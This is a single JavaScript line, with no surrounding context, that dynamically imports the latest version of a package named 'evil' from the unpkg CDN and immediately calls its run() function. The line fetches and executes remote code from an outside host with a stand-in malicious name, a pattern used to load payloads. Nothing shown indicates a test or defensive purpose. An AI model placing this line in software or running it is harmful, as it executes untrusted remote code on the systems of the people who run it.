import('https://unpkg.com/evil@latest/index.mjs').then((m) => m.run());
